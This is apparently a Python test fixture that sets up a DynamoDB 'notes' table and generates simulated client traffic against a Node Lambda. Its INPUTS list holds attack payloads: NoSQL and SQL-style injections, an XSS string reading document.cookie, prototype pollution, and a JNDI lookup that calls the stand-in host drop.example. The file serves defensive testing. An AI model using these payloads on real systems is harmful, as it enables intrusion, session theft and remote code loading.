# SPDX-License-Identifier: Apache-2.0
"""What clients ask of dynamodb-crud, and what attackers do."""

RUNTIME = "node"
HANDLER = "index.handler"
SERVICES = ["aws"]
ENVIRONMENT = {"TABLE": "notes"}
_notes = []


def prepare(client):
    client("dynamodb").create_table(
        TableName="notes", BillingMode="PAY_PER_REQUEST",
        KeySchema=[{"AttributeName": "owner", "KeyType": "HASH"}, {"AttributeName": "id", "KeyType": "RANGE"}],
        AttributeDefinitions=[{"AttributeName": name, "AttributeType": "S"} for name in ("owner", "id")])


def _ask(traffic, method, note=None, body=None):
    resource = "/notes/{id}" if note else "/notes"
    event = traffic.http(method, f"/notes/{note}" if note else "/notes", body=body, resource=resource)
    event["pathParameters"] = {"id": note} if note else None
    event["requestContext"]["authorizer"] = {"claims": {"sub": f"user-{traffic.rank(300)}", "email": traffic.email()}}
    return event


def benign(traffic):
    kind = traffic.random()
    if kind < 0.3:
        return _ask(traffic, "POST", body={"title": traffic.words(1, 5), "text": traffic.text(1, 8)})
    if kind < 0.6:
        return _ask(traffic, "GET")
    if kind < 0.8:
        return _ask(traffic, "GET", traffic.uuid())
    if kind < 0.95:
        return _ask(traffic, "PUT", traffic.uuid(), {"text": traffic.text(1, 4)})
    if kind < 0.995:
        return _ask(traffic, "DELETE", traffic.uuid())
    return _ask(traffic, "PATCH", traffic.uuid(), {"title": "x"})


INPUTS = {
    "operator": lambda traffic: _ask(traffic, "PUT", traffic.uuid(), {"text": {"$where": "sleep(5000) || this.owner"}}),
    "statement": lambda traffic: _ask(traffic, "GET", "x' OR owner > '' --"),
    "script": lambda traffic: _ask(traffic, "POST", body={"title": "<svg/onload=alert(document.cookie)>", "text": "x"}),
    "prototype": lambda traffic: _ask(traffic, "POST", body='{"title":"a","text":"b","constructor":{"prototype":{"admin":true}}}'),
    "lookup": lambda traffic: _ask(traffic, "POST", body={"title": "${jndi:ldap://drop.example/a}", "text": "x"}),
}
